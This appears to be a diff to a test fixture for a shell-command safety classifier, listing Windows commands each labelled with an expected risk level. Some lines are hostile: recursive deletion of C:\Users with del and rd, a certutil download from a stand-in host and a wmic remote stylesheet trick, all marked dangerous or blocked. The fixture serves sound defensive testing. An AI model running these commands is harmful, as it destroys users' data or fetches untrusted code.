@@ -64,3 +64,8 @@ wmic process where name='gk-hook.exe' delete  # want blocked
 wmic os get caption /format:x.xsl  # want dangerous
 certutil -hashfile src\main.go SHA256  # want safe
 certutil -urlcache -f http://x.example/a a  # want dangerous
+cd /d C:\Users & del /s /q *  # want blocked irreversible
+pushd C:\Users & rd /s /q .  # want blocked irreversible
+findstr /f:list.txt x  # want moderate
+findstr /f:/ x  # want safe
+start https://x.example  # want moderate
